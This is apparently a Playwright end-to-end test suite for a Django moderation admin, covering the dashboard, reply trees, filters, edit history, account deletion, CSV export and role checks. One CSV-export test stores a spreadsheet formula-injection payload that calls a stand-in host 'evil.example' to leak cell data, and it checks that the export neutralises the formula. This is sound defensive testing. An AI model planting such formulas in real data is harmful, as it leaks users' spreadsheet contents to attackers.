"""The moderators' workflows in a real browser, each ending in a screenshot
(docs/screenshots/<name>.png)."""

from __future__ import annotations

import csv
import re
from datetime import timedelta

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.utils import timezone
from playwright.sync_api import Locator, Page, expect

from audit.models import AuditEntry
from messaging.models import Message
from messaging.services import edit_message, reply, send_message
from tests.e2e.browser import (
    BrowserConsole,
    background_color,
    log_in_to_admin,
    margin_left,
    save_screenshot,
)
from tests.factories import MessageFactory, ModeratorFactory, UserFactory

# live_server serves another thread: the data must be committed. Flushing after
# each test would also drop the Moderators group (a data migration): the
# serialized rollback puts it back.
pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True, serialized_rollback=True)]

MESSAGE_LIST = "/admin/messaging/message/"


def changelist_rows(page: Page) -> Locator:
    return page.locator("#result_list tbody tr")


def open_from_sidebar(page: Page, title: str) -> None:
    # A sidebar link's accessible name starts with its icon's ligature ("forum Messages").
    page.get_by_role("navigation").get_by_role("link", name=re.compile(rf"{title}$")).click()


# --- 1. Log in, dashboard --------------------------------------------------------------


def test_moderator_logs_in_and_sees_the_dashboard_figures_and_chart(page: Page) -> None:
    ModeratorFactory(username="moderator")
    amara, ben, zeno = (UserFactory(username=name) for name in ("amara", "ben", "zeno"))
    now = timezone.now()
    # Today 4 (unread), yesterday 3, three days ago 5, ten days ago 2 (all read):
    # 12 in the last 7 days, 14 in the chart's 30 days. Whole days back from now
    # never fall on today, whatever the time the tests run.
    for days_ago, count, sender in ((0, 4, zeno), (1, 3, amara), (3, 5, zeno), (10, 2, ben)):
        for _ in range(count):
            MessageFactory(
                sender=sender,
                receiver=amara if sender != amara else ben,
                timestamp=now - timedelta(days=days_ago),
                read=days_ago > 0,
            )
    edit_message(
        Message.objects.filter(sender=zeno).latest("timestamp"),
        editor=zeno,
        content="An edited message",
    )

    log_in_to_admin(page, "moderator")

    figures = page.get_by_role("region", name="Moderation figures")
    expect(figures).to_be_visible()
    for title, value in (
        ("Messages today", "4"),
        ("Messages, last 7 days", "12"),
        ("Unread backlog", "4"),
        ("Edits today", "1"),
        ("Deleted accounts, 7 days", "0"),
    ):
        card = figures.locator(".dashboard-card").filter(has_text=title)
        expect(card.locator(".dashboard-figure")).to_have_text(value)
    # The most active sender of the week heads the table.
    expect(figures.get_by_role("link", name="zeno")).to_be_visible()

    # Chart.js drew the 30 days' bars on the canvas: its instance holds the data and
    # the canvas has non-blank pixels.
    canvas = figures.locator("canvas.chart").first  # messages per day; moderator actions next
    expect(canvas).to_be_visible()
    page.wait_for_function(
        """canvas => {
            const chart = window.Chart && Chart.getChart(canvas);
            return chart && chart.data.datasets[0].data.length === 30
                && !Chart.animator.running(chart);
        }""",
        arg=canvas.element_handle(),
    )
    bars = canvas.evaluate("canvas => Chart.getChart(canvas).data.datasets[0].data")
    assert sum(bars) == 14
    assert bars[-1] == 4  # today, the last bar
    today_bar_height = canvas.evaluate(
        "canvas => Chart.getChart(canvas).getDatasetMeta(0).data.at(-1).height"
    )
    assert today_bar_height > 0
    painted_pixels = canvas.evaluate(
        """canvas => {
            const pixels = canvas.getContext("2d")
                .getImageData(0, 0, canvas.width, canvas.height).data;
            let painted = 0;
            for (let alpha = 3; alpha < pixels.length; alpha += 4) {
                if (pixels[alpha] !== 0) painted += 1;
            }
            return painted;
        }"""
    )
    assert painted_pixels > 1000

    save_screenshot(page, "dashboard")


# --- 2. A thread's reply tree --------------------------------------------------------


def test_moderator_opens_a_thread_and_sees_the_reply_tree_indented(page: Page) -> None:
    ModeratorFactory(username="moderator")
    amara, ben = UserFactory(username="amara"), UserFactory(username="ben")
    root = send_message(sender=amara, receiver=ben, content="Are we still on for Friday?")
    answer = reply(sender=ben, parent=root, content="Yes, at the usual place.")
    follow_up = reply(sender=amara, parent=answer, content="Great, I will book a table.")
    deepest = reply(sender=ben, parent=follow_up, content="Make it for four, Noor comes too.")
    side_answer = reply(sender=ben, parent=root, content="Or Saturday, if that suits you.")

    log_in_to_admin(page, "moderator")
    open_from_sidebar(page, "Messages")
    expect(page).to_have_url(re.compile(re.escape(MESSAGE_LIST) + "$"))
    expect(changelist_rows(page)).to_have_count(5)
    page.get_by_role("link", name="Great, I will book a table.").click()
    expect(page).to_have_url(re.compile(rf"/admin/messaging/message/{follow_up.pk}/change/$"))

    tree = page.get_by_role("region", name="Conversation")
    expect(tree).to_contain_text("5 messages in this thread")
    nodes = tree.locator("li.msgadmin-node")
    # Reading order: the root, its first branch down to the deepest reply, then
    # the side branch.
    expect(nodes).to_have_count(5)
    assert nodes.evaluate_all("nodes => nodes.map(node => node.id)") == [
        f"thread-node-{message.pk}" for message in (root, answer, follow_up, deepest, side_answer)
    ]
    indents = [
        margin_left(tree.locator(f"#thread-node-{message.pk}"))
        for message in (root, answer, follow_up, deepest)
    ]
    assert indents[0] == 0
    assert indents == sorted(set(indents)), f"indentation must grow with depth: {indents}"
    assert margin_left(tree.locator(f"#thread-node-{side_answer.pk}")) == indents[1]

    current = tree.locator("li.msgadmin-node-current")
    expect(current).to_have_count(1)
    expect(current).to_have_id(f"thread-node-{follow_up.pk}")
    expect(current).to_have_attribute("aria-current", "true")
    expect(current).to_contain_text("this message")
    assert background_color(current) != background_color(nodes.first)

    save_screenshot(page, "thread_tree")


# --- 3. Unread filter ------------------------------------------------------------------


def test_moderator_filters_unread_messages_and_sees_only_unread_ones(page: Page) -> None:
    ModeratorFactory(username="moderator")
    amara, ben = UserFactory(username="amara"), UserFactory(username="ben")
    unread = [
        MessageFactory(sender=amara, receiver=ben, content=f"Unread note {number}")
        for number in range(3)
    ]
    for number in range(2):
        MessageFactory(sender=ben, receiver=amara, content=f"Read note {number}", read=True)

    log_in_to_admin(page, "moderator")
    page.goto(MESSAGE_LIST)
    expect(changelist_rows(page)).to_have_count(5)

    page.locator(".filter-open-button").click()  # "Filters": opens the filter panel
    filters = page.locator("#filter-form")
    expect(filters).to_be_visible()
    filters.locator("#id_unread_1").check()  # "By unread": Yes
    filters.get_by_role("button", name="Apply Filters").click()

    expect(page).to_have_url(re.compile(r"[?&]unread=1"))
    rows = changelist_rows(page)
    expect(rows).to_have_count(len(unread))
    expect(rows.locator("td.field-display_read")).to_have_text(["unread"] * len(unread))
    expect(page.locator("#result_list")).not_to_contain_text("Read note")
    for message in unread:
        expect(rows.filter(has_text=message.content)).to_have_count(1)

    save_screenshot(page, "unread_filter")


# --- 4. Edit history -------------------------------------------------------------------


def test_moderator_reads_a_message_edit_history_with_the_word_diff(page: Page) -> None:
    ModeratorFactory(username="moderator")
    amara, ben = UserFactory(username="amara"), UserFactory(username="ben")
    message = send_message(sender=amara, receiver=ben, content="See you at the old station")
    edit_message(message, editor=amara, content="See you at the new station")
    edit_message(message, editor=amara, content="See you at the new station at noon")

    log_in_to_admin(page, "moderator")
    page.goto(f"{MESSAGE_LIST}{message.pk}/change/")

    history = page.locator("#history-group")  # the "Edit history" inline
    expect(history).to_be_visible()
    diffs = history.locator(".msgadmin-diff")
    expect(diffs).to_have_count(2)
    # Newest edit first: it added "at noon"; the first one replaced "old" by "new".
    expect(diffs.nth(0).locator("ins")).to_have_text(["at noon"], use_inner_text=True)
    expect(diffs.nth(0).locator("del")).to_have_count(0)
    expect(diffs.nth(1).locator("del")).to_have_text(["old"])
    expect(diffs.nth(1).locator("ins")).to_have_text(["new"])
    expect(history).to_contain_text("See you at the old station")

    save_screenshot(page, "edit_history")

    # django-simple-history's page (the "History" button, top right; its name starts
    # with its icon's ligature): every stored version of the message.
    page.get_by_role("link", name="history History", exact=True).click()
    expect(page).to_have_url(re.compile(rf"/admin/messaging/message/{message.pk}/history/$"))
    versions = page.locator("#change-history tr.data-row")
    expect(versions).to_have_count(3)  # created, then edited twice
    versions.first.click()  # the newest version unfolds what changed in it
    expect(page.locator("#change-history tbody").first).to_contain_text(
        "See you at the new station at noon"
    )
    save_screenshot(page, "edit_history_versions")


# --- 5. Deleting two accounts ----------------------------------------------------------


def test_moderator_deletes_two_accounts_and_finds_the_audit_entries_and_tombstones(
    page: Page,
) -> None:
    ModeratorFactory(username="moderator")
    carol = UserFactory(username="carol")
    zeno, spammer = UserFactory(username="zeno"), UserFactory(username="spammer")
    UserFactory(username="amara")  # stays, unselected
    insult = send_message(sender=zeno, receiver=carol, content="Nobody wants you here.")
    carols_answer = reply(sender=carol, parent=insult, content="Please stop writing to me.")
    send_message(sender=zeno, receiver=carol, content="I will keep writing.")
    advert = send_message(sender=spammer, receiver=carol, content="Cheap watches, click here")
    reply(sender=carol, parent=advert, content="Who is this?")

    log_in_to_admin(page, "moderator")
    open_from_sidebar(page, "Users")
    rows = changelist_rows(page)
    for username in ("zeno", "spammer"):
        rows.filter(has=page.get_by_role("link", name=username, exact=True)).locator(
            "input[name=_selected_action]"
        ).check()
    page.locator("select[name=action]").select_option(label="Delete accounts and all their data")
    page.get_by_title("Run the selected action").click()

    # The preview: counts per account, nothing deleted yet.
    expect(page.get_by_text("Delete these 2 accounts and all their data?")).to_be_visible()
    preview = page.locator("table.account-deletion-table")
    headers = preview.locator("thead th")
    expect(headers).to_contain_text(["Account", "Messages deleted", "Kept as tombstones"])
    zeno_counts = preview.locator("tbody tr").filter(has_text="zeno").locator("td")
    spammer_counts = preview.locator("tbody tr").filter(has_text="spammer").locator("td")
    # Columns: account, messages deleted, kept as tombstones, ...
    expect(zeno_counts.nth(1)).to_have_text("1")
    expect(zeno_counts.nth(2)).to_have_text("1")
    expect(spammer_counts.nth(1)).to_have_text("0")
    expect(spammer_counts.nth(2)).to_have_text("1")
    assert get_user_model().objects.filter(username__in=["zeno", "spammer"]).count() == 2

    reason = "Harassment and spam reported by carol (ticket 4711)"
    page.get_by_label("Reason").fill(reason)
    save_screenshot(page, "delete_accounts_preview")
    page.get_by_role("button", name="Delete 2 accounts").click()

    done = "Deleted 2 accounts and all their data: spammer, zeno."
    expect(page.get_by_text(done)).to_be_visible()
    assert not get_user_model().objects.filter(username__in=["zeno", "spammer"]).exists()

    # The audit log: one entry per account, with the moderator and the reason.
    open_from_sidebar(page, "Audit log")
    entries = changelist_rows(page).filter(has_text="Account deleted")
    expect(entries).to_have_count(2)
    for username in ("zeno", "spammer"):
        entry = entries.filter(has_text=username)
        expect(entry).to_contain_text("moderator")
        expect(entry).to_contain_text(reason)
    save_screenshot(page, "delete_accounts_audit_log")
    assert AuditEntry.objects.filter(action=AuditEntry.Action.ACCOUNT_DELETED).count() == 2

    # Carol's reply keeps its place, under a tombstone where the insult was.
    page.goto(f"{MESSAGE_LIST}?q=Please+stop")
    page.get_by_role("link", name="Please stop writing to me.").click()
    tree = page.get_by_role("region", name="Conversation")
    tombstone = tree.locator(f"#thread-node-{insult.pk}")
    expect(tombstone).to_have_class(re.compile(r"\bmsgadmin-node-tombstone\b"))
    expect(tombstone.locator(".msgadmin-node-content")).to_have_text("Message deleted")
    expect(tombstone).to_contain_text("deleted account")
    expect(tree).not_to_contain_text("Nobody wants you here.")
    expect(tree.locator(f"#thread-node-{carols_answer.pk}")).to_contain_text(
        "Please stop writing to me."
    )
    save_screenshot(page, "delete_accounts_tombstone")


# --- 6. CSV export ---------------------------------------------------------------------


def test_moderator_exports_the_filtered_message_list_with_formulas_neutralised(
    page: Page,
) -> None:
    ModeratorFactory(username="moderator")
    amara, mallory = UserFactory(username="amara"), UserFactory(username="mallory")
    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your prize")'
    unread = [
        MessageFactory(sender=mallory, receiver=amara, content=formula),
        MessageFactory(sender=mallory, receiver=amara, content="+1 for the prize"),
        MessageFactory(sender=amara, receiver=mallory, content="Plain words, nothing else"),
    ]
    MessageFactory(sender=amara, receiver=mallory, content="Already read", read=True)

    log_in_to_admin(page, "moderator")
    page.goto(f"{MESSAGE_LIST}?unread=1")
    expect(changelist_rows(page)).to_have_count(3)
    page.get_by_role("link", name="Export").click()

    expect(page).to_have_url(re.compile(r"/admin/messaging/message/export/\?unread=1"))
    expect(page.get_by_text("3 messages will be exported")).to_be_visible()
    save_screenshot(page, "export_csv")
    with page.expect_download() as download_info:
        page.get_by_role("button", name="Export CSV").click()
    download = download_info.value
    assert download.suggested_filename.endswith(".csv")

    with open(download.path(), newline="", encoding="utf-8-sig") as export_file:
        exported = list(csv.DictReader(export_file))
    assert sorted(int(row["id"]) for row in exported) == sorted(m.pk for m in unread)
    content_by_id = {int(row["id"]): row["content"] for row in exported}
    assert content_by_id[unread[0].pk] == "'" + formula
    assert content_by_id[unread[1].pk] == "'+1 for the prize"
    assert content_by_id[unread[2].pk] == "Plain words, nothing else"
    assert {row["read"] for row in exported} == {"false"}
    assert AuditEntry.objects.filter(action=AuditEntry.Action.EXPORT).count() == 1


# --- 7. Staff outside the Moderators group ---------------------------------------------


def test_staff_outside_the_moderators_group_see_the_dashboard_and_nothing_else(
    page: Page, browser_console: BrowserConsole
) -> None:
    # A support person: staff, not a moderator, with a permission granted to the
    # account by hand. The role policy caps it: no list, no user, no deletion.
    support = UserFactory(username="support", is_staff=True)
    support.user_permissions.add(
        *Permission.objects.filter(codename__in=["view_user", "delete_user"])
    )
    zeno = UserFactory(username="zeno")

    log_in_to_admin(page, "support")
    expect(page.get_by_role("heading", name="Dashboard")).to_be_visible()
    expect(page.locator("#nav-sidebar-inner, nav").get_by_text("Users")).to_have_count(0)
    save_screenshot(page, "staff_cannot_delete")

    # The list, the person's page and the deletion previews answer 403.
    browser_console.expect_error(r"status of 403 \(Forbidden\)")
    for url in (
        "/admin/auth/user/",
        f"/admin/auth/user/{zeno.pk}/change/",
        f"/admin/auth/user/{zeno.pk}/delete/",
        f"/admin/auth/user/{zeno.pk}/delete-account/",
    ):
        response = page.goto(url)
        assert response is not None and response.status == 403, url

    # A forged confirmation POST (valid session and CSRF token) is refused too.
    page.goto("/admin/")
    csrf_token = next(
        cookie["value"] for cookie in page.context.cookies() if cookie["name"] == "csrftoken"
    )
    forged = page.request.post(
        "/admin/auth/user/",
        form={
            "csrfmiddlewaretoken": csrf_token,
            "action": "delete_accounts",
            "_selected_action": str(zeno.pk),
            "post": "yes",
            "reason": "forged",
        },
        headers={"Referer": page.url},
    )
    assert forged.status == 403
    assert get_user_model().objects.filter(pk=zeno.pk).exists()
